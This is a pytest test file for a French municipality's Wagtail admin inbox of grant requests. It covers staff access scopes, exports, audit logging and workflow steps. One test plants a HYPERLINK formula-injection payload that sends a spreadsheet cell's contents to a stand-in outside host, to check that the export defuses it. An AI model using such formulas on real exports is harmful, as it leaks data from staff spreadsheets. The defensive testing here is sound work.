"""The Maison du projet's inbox in the Wagtail admin: who sees what, and how a demande moves on."""

import csv
import io
import json
import re
from datetime import UTC, datetime
from decimal import Decimal

import openpyxl
import pytest

from django.contrib.auth.models import Group, Permission
from django.test import Client

from demandes.models import Channel, Demande, DemandeLogEntry
from demandes.procedures import FTU, PIC, Status
from home.models import ContactPoint
from home.spreadsheets import as_text_in_spreadsheet
from tests.demandes.factories import make_user, pic_answers
from tests.utils import page_text


def test_an_agent_sees_and_opens_only_the_demandes_of_their_contact_points(agent_oliveaux, demandes):
    pic, ftu = demandes
    _user, client = agent_oliveaux
    listing = page_text(client.get("/admin/demandes_recues/"))
    assert pic.reference in listing and ftu.reference not in listing
    assert client.get(f"/admin/demandes_recues/{pic.pk}/").status_code == 200
    for url in (
        f"/admin/demandes_recues/{ftu.pk}/",
        f"/admin/demandes_recues/{ftu.pk}/donnees/",
        f"/admin/demandes_recues/{ftu.pk}/recepisse/",
    ):
        assert client.get(url, follow=True).status_code == 404


def test_an_editor_outside_the_maison_du_projet_sees_no_demande(django_user_model, demandes):
    editor = make_user(django_user_model, "redacteur")[0]
    editor.user_permissions.add(Permission.objects.get(codename="access_admin"))
    editor.groups.add(Group.objects.get_or_create(name="Rédaction")[0])
    client = Client()
    client.force_login(editor)
    assert client.get("/admin/demandes_recues/").status_code in (302, 403)
    assert client.get(f"/admin/demandes_recues/{demandes[0].pk}/").status_code in (302, 403)
    assert "Fatima" not in page_text(client.get(f"/admin/demandes_recues/{demandes[0].pk}/", follow=True))
    # Nor through Wagtail's own listing of form submissions.
    assert demandes[0].reference not in page_text(client.get("/admin/forms/"))
    assert client.get(f"/admin/forms/submissions/{demandes[0].page_id}/").status_code in (302, 403)


def test_a_superuser_sees_every_demande(admin_client, demandes):
    listing = page_text(admin_client.get("/admin/demandes_recues/"))
    assert all(demande.reference in listing for demande in demandes)


def test_the_inbox_filters_searches_and_exports_the_filtered_list(admin_client, demandes):
    pic, ftu = demandes
    for query, shown, hidden in (
        ("procedure=ftu", ftu, pic),
        (f"quartier={pic.quartier_id}", pic, ftu),
        (f"contact_point={ftu.contact_point_id}", ftu, pic),
        ("status=recue&procedure=pic", pic, ftu),
        (f"q={ftu.reference}", ftu, pic),
        ("q=Benali", pic, ftu),
    ):
        text = page_text(admin_client.get(f"/admin/demandes_recues/?{query}"))
        assert shown.reference in text and hidden.reference not in text, query
    exported = admin_client.get("/admin/demandes_recues/?procedure=pic&export=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode("utf-8-sig")), delimiter=";"))
    assert [(row["Référence"], row["Quartier"], row["Étape"]) for row in rows] == [
        (pic.reference, "Les Oliveaux", "Reçue")
    ]
    workbook = openpyxl.load_workbook(
        io.BytesIO(b"".join(admin_client.get("/admin/demandes_recues/?export=xlsx").streaming_content))
    )
    references = [row[0] for row in workbook.active.iter_rows(min_row=2, values_only=True)]
    assert sorted(references) == sorted(demande.reference for demande in demandes)


def exported_rows(client, export_format):
    """The rows of the inbox's export, as a spreadsheet program reads them (headings first)."""
    content = b"".join(client.get(f"/admin/demandes_recues/?export={export_format}").streaming_content)
    if export_format == "csv":
        assert content.startswith("\N{BYTE ORDER MARK}".encode())  # how a French spreadsheet program knows it is UTF-8
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    return list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_export_hands_no_formula_to_a_spreadsheet_program(admin_client, demandes, export_format):
    """Names typed in the admin (and, later, by residents) reach the export: a formula there would run
    when staff open the file, so it is written as text."""
    pic, _ftu = demandes
    formula = '=HYPERLINK("https://exemple.test/?d="&A2;"Ouvrir")'
    ContactPoint.objects.filter(pk=pic.contact_point_id).update(name=formula)
    headings, *rows = exported_rows(admin_client, export_format)
    column = headings.index("Lieu qui traite la demande")
    row = next(row for row in rows if row[0] == pic.reference)
    assert row[column] == "'" + formula


def test_the_inbox_and_its_exports_show_who_asked_what_and_how_much_in_local_time(admin_client, demandes):
    pic, _ftu = demandes
    pic.submit_time = datetime(2026, 12, 3, 23, 30, 15, 123456, tzinfo=UTC)
    pic.save()
    listing = page_text(admin_client.get("/admin/demandes_recues/"))
    for shown in ("Nom", "Titre du projet", "Montant demandé", "Langue", "Fatima Benali et Jérôme Dupont"):
        assert shown in listing, shown
    assert "Repas partagé des voisins" in listing
    # As the site writes amounts, and at the Paris time the exports give, in full.
    assert "850 €" in listing and "850,00" not in listing
    assert "Reçue le" in listing and "04/12/2026 00:30" in listing
    columns = ["Nom", "Titre du projet", "Montant demandé", "Quartier", "Langue", "Reçue le", "Étape"]
    expected = {
        "csv": [
            "Fatima Benali et Jérôme Dupont",
            "Repas partagé des voisins",
            "850,00",
            "Les Oliveaux",
            "Français",
            "2026-12-04 00:30:15",
            "Reçue",
        ],
        "xlsx": [
            "Fatima Benali et Jérôme Dupont",
            "Repas partagé des voisins",
            850,
            "Les Oliveaux",
            "Français",
            datetime(2026, 12, 4, 0, 30, 15),
            "Reçue",
        ],
    }
    for export_format, values in expected.items():
        headings, *rows = exported_rows(admin_client, export_format)
        row = next(row for row in rows if row[0] == pic.reference)
        assert [row[headings.index(column)] for column in columns] == values, export_format


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("=1+2", "'=1+2"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("Clémenceau – Kiener", "Clémenceau – Kiener"),
        ("PIC-2026-0001", "PIC-2026-0001"),
        (Decimal("-10"), Decimal("-10")),
    ],
)
def test_a_text_that_a_spreadsheet_would_read_as_a_formula_is_exported_as_text(value, exported):
    assert as_text_in_spreadsheet(value) == exported


def test_opening_a_demande_shows_everything_and_is_recorded_in_the_audit_log(agent_oliveaux, demandes):
    pic, _ftu = demandes
    user, client = agent_oliveaux
    text = page_text(client.get(f"/admin/demandes_recues/{pic.pk}/"))
    for shown in ("Repas partagé des voisins", "Fatima Benali et Jérôme Dupont", "photo.png", "Reçue", "850"):
        assert shown in text
    entry = DemandeLogEntry.objects.for_instance(pic).get(action="demandes.consultation")
    assert entry.user == user


def test_the_site_history_report_shows_an_agent_only_the_demandes_of_their_contact_points(
    agent_oliveaux, demandes, django_user_model, admin_client
):
    pic, ftu = demandes
    _user, client = agent_oliveaux
    kiener = make_user(django_user_model, "agent-kiener", ["Maison du projet"], [ftu.contact_point])[1]
    kiener.get(f"/admin/demandes_recues/{ftu.pk}/")
    kiener.get(f"/admin/demandes_recues/{ftu.pk}/donnees/")
    client.get(f"/admin/demandes_recues/{pic.pk}/")
    report = page_text(client.get("/admin/reports/site-history/"))
    exported = b"".join(client.get("/admin/reports/site-history/?export=csv").streaming_content).decode()
    for shown in (report, exported):
        assert pic.reference in shown and ftu.reference not in shown
        assert "agent-kiener" not in shown  # not even among the report's filters
    assert all(demande.reference in page_text(admin_client.get("/admin/reports/site-history/")) for demande in demandes)


def test_attachments_download_for_authorised_staff_only_and_each_download_is_logged(
    agent_oliveaux, demandes, django_user_model
):
    pic, _ftu = demandes
    piece = pic.pieces_jointes.get()
    url = f"/admin/demandes_recues/{pic.pk}/pieces/{piece.pk}/"
    response = agent_oliveaux[1].get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == piece.file.read()
    assert 'attachment; filename="photo.png"' in response["Content-Disposition"]
    assert DemandeLogEntry.objects.for_instance(pic).filter(action="demandes.telechargement").count() == 1
    assert Client().get(url).status_code == 302  # to the login page
    other = make_user(django_user_model, "autre", ["Maison du projet"], [])[1]
    assert other.get(url, follow=True).status_code == 404


def test_an_agent_moves_a_pic_through_the_committee_steps(agent_oliveaux, demandes):
    pic, _ftu = demandes
    user, client = agent_oliveaux
    url = f"/admin/demandes_recues/{pic.pk}/etape/"
    assert client.post(url, {"to_status": "examen_comite", "note": "Comité du 3 décembre"}).status_code == 302
    refused = client.post(url, {"to_status": "avis_favorable", "amount": "1600"})
    assert refused.status_code == 400
    assert "Le montant accordé dépasse le plafond du PIC (1 500 €)." in page_text(refused)
    assert "Indiquez le montant accordé." in page_text(client.post(url, {"to_status": "avis_favorable"}))
    assert client.post(url, {"to_status": "avis_favorable", "amount": "1 200"}).status_code == 302
    pic.refresh_from_db()
    assert pic.status == Status.AVIS_FAVORABLE and pic.amount_granted == 1200 and pic.closed_at is None
    history = list(pic.evenements.values_list("from_status", "to_status", "user__username", "note"))
    assert history == [
        ("", "recue", None, ""),
        ("recue", "examen_comite", "agent", "Comité du 3 décembre"),
        ("examen_comite", "avis_favorable", "agent", ""),
    ]


def test_a_step_the_procedure_does_not_allow_is_refused(agent_oliveaux, demandes):
    pic, _ftu = demandes
    response = agent_oliveaux[1].post(f"/admin/demandes_recues/{pic.pk}/etape/", {"to_status": "bilan_presente"})
    assert response.status_code == 400
    assert "Sélectionnez un choix valide" in page_text(response)
    pic.refresh_from_db()
    assert pic.status == Status.RECUE


def test_the_procedures_follow_the_city_process():
    assert PIC.next_statuses(Status.EXAMEN_COMITE) == (
        Status.AVIS_FAVORABLE,
        Status.AVIS_DEFAVORABLE,
        Status.SANS_SUITE,
    )
    assert PIC.next_statuses(Status.AVIS_DEFAVORABLE) == ()
    assert FTU.next_statuses(Status.SANS_SUITE) == ()
    reached = {Status.RECUE, Status.AVIS_COMITE, Status.ETUDE_SERVICES, Status.SECOND_EXAMEN}
    assert FTU.timeline(Status.REFUSEE, reached) == (*FTU.path[:4], Status.REFUSEE)
    assert PIC.timeline(Status.SANS_SUITE, {Status.RECUE}) == (Status.RECUE, Status.SANS_SUITE)
    assert PIC.timeline(Status.EXAMEN_COMITE, {Status.RECUE}) == PIC.path


def test_an_ftu_grant_is_capped_at_the_ftu_ceiling(admin_client, demandes):
    _pic, ftu = demandes
    url = f"/admin/demandes_recues/{ftu.pk}/etape/"
    for status in ("avis_comite", "etude_services", "second_examen"):
        assert admin_client.post(url, {"to_status": status}).status_code == 302
    assert "plafond du FTU (4 500 €)" in page_text(
        admin_client.post(url, {"to_status": "subvention_attribuee", "amount": "4501"})
    )
    admin_client.post(url, {"to_status": "subvention_attribuee", "amount": "4500"})
    admin_client.post(url, {"to_status": "travaux_realises"})
    ftu.refresh_from_db()
    assert ftu.status == Status.TRAVAUX_REALISES and ftu.closed_at is not None


def test_staff_at_a_point_relais_enter_a_demande_for_a_resident_and_print_a_receipt(agent_oliveaux, pic_form):
    user, client = agent_oliveaux
    form = client.get(pic_form.url)
    assert "Saisie pour une personne (réservé aux agents)" in page_text(form)
    data = pic_answers(pic_form, **{"Adresse e-mail": ""})
    data.update(canal=Channel.POINT_RELAIS)
    refused = client.post(pic_form.url, data)
    assert "Demandez son accord à la personne" in page_text(refused)
    data["accord_oral"] = "on"
    response = client.post(pic_form.url, data)
    assert response.status_code == 302
    demande = Demande.objects.latest("pk")
    assert demande.channel == Channel.POINT_RELAIS and demande.entered_by == user and demande.oral_consent
    receipt = page_text(client.get(f"/admin/demandes_recues/{demande.pk}/recepisse/"))
    assert demande.reference in receipt
    assert "Au point relais ou à la Maison du projet, avec un agent" in receipt


def test_the_agent_who_entered_a_demande_prints_its_receipt_when_the_contact_point_has_several_agents(
    agent_oliveaux, pic_form, django_user_model
):
    user, client = agent_oliveaux
    make_user(django_user_model, "collegue", ["Maison du projet"], user.agent.contact_points.all())
    data = pic_answers(pic_form)
    data.update(canal=Channel.POINT_RELAIS, accord_oral="on")
    assert client.post(pic_form.url, data).status_code == 302
    demande = Demande.objects.get(entered_by=user)
    response = client.get(f"/admin/demandes_recues/{demande.pk}/recepisse/")
    assert response.status_code == 200
    assert demande.reference in page_text(response)


def test_the_inbox_costs_the_same_queries_for_two_demandes_or_seven(admin_client, demandes, client, pic_form):
    def queries():
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        admin_client.get("/admin/demandes_recues/")
        with CaptureQueriesContext(connection) as context:
            assert admin_client.get("/admin/demandes_recues/").status_code == 200
        return len(context)

    with_two = queries()
    for number in range(5):
        client.post(pic_form.url, pic_answers(pic_form), REMOTE_ADDR=f"10.0.1.{number}")
    assert Demande.objects.count() == 7
    assert queries() == with_two


@pytest.mark.parametrize("view", ["edit", "delete", "history", "usage", "copy", "inspect"])
def test_no_generic_admin_view_opens_a_demande(agent_oliveaux, demandes, view):
    """Demandes are read and moved only through the inbox's own views, which check the agent's scope."""
    pic, _ftu = demandes
    response = agent_oliveaux[1].get(f"/admin/demandes_recues/{view}/{pic.pk}/", follow=True)
    assert "Fatima" not in page_text(response)
    assert agent_oliveaux[1].post(f"/admin/demandes_recues/delete/{pic.pk}/").status_code in (302, 403, 404)
    assert Demande.objects.filter(pk=pic.pk).exists()


def test_two_agents_cannot_record_contradicting_opinions(agent_oliveaux, demandes, admin_user):
    from django.core.exceptions import ValidationError

    from demandes.transitions import move

    pic, _ftu = demandes
    move(pic, "examen_comite", admin_user)
    stale_copy = Demande.objects.get(pk=pic.pk)
    move(pic, "avis_favorable", admin_user, amount=900)
    with pytest.raises(ValidationError):
        move(stale_copy, "avis_defavorable", admin_user)
    pic.refresh_from_db()
    assert pic.status == Status.AVIS_FAVORABLE


def admin_menu_labels(client):
    """Every label of the admin's sidebar menu, submenus included."""
    html = client.get("/admin/").content.decode()
    props = json.loads(re.search(r'<script id="wagtail-sidebar-props"[^>]*>(.*?)</script>', html, re.S).group(1))
    labels = []

    def walk(value):
        if isinstance(value, dict):
            if isinstance(value.get("label"), str):
                labels.append(value["label"])
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    walk(props)
    return labels


@pytest.mark.parametrize("who", ["admin", "agent"])
def test_the_admin_menu_has_one_demandes_entry(admin_client, agent_oliveaux, who):
    client = admin_client if who == "admin" else agent_oliveaux[1]
    labels = admin_menu_labels(client)
    assert labels.count("Demandes") == 1, labels
    assert "Demandes reçues" in labels
